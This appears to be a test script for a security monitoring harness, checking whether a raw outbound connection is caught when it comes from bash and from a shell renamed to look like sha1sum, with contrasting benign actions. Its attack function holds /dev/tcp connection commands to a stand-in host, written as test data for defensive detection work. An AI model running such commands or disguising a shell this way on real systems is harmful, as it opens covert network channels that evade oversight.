#!/usr/bin/env bash
# A shell connects by itself, and so does a program that has the name of one that works on files only.
. "$(dirname "$0")/../lib/harness.sh"

prepare() {
    uplink 8192
    shell_as sha1sum
}

attack() {
    bash -c 'exec 3<>/dev/tcp/203.0.113.10/8192'
    /srv/sha1sum -c 'exec 3<>/dev/tcp/203.0.113.10/8192'
}

benign() {
    curl -s --max-time 1 http://203.0.113.10:8192/ >/dev/null
    sha1sum /etc/hosts >/dev/null
}

record_command
